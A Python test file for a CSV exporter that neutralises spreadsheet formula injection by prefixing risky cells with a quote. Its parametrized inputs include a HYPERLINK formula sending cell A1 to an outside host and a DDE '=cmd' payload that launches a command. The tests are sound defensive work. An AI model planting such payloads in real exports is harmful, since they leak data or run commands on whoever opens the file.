"""CSV without formulas."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as some

from explorer.exports.spreadsheet import FORMULA_STARTS, as_csv


def lines(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline="")))


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://a.b/"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=cmd|" /C calc"!A0']
)
def test_a_name_is_no_formula(name: str) -> None:
    assert lines(as_csv([["name"], [name]])) == [["name"], [f"'{name}"]]


def test_numbers_are_not_changed_and_none_is_an_empty_cell() -> None:
    assert as_csv([["a", "b"], [-1, None], [-0.5, 1e-7]]) == "a,b\r\n-1,\r\n-0.5,1e-07\r\n"


def unescaped(rows: list[list[str]]) -> list[list[str]]:
    return [[cell.removeprefix("'") if cell[1:].startswith(FORMULA_STARTS) else cell for cell in row] for row in rows]


@given(some.lists(some.lists(some.text(), min_size=2, max_size=2), min_size=1))
def test_any_text_is_read_back(rows: list[list[str]]) -> None:
    read = lines(as_csv(rows))
    assert not any(cell.startswith(FORMULA_STARTS) for row in read for cell in row)
    assert unescaped(read) == unescaped(rows)
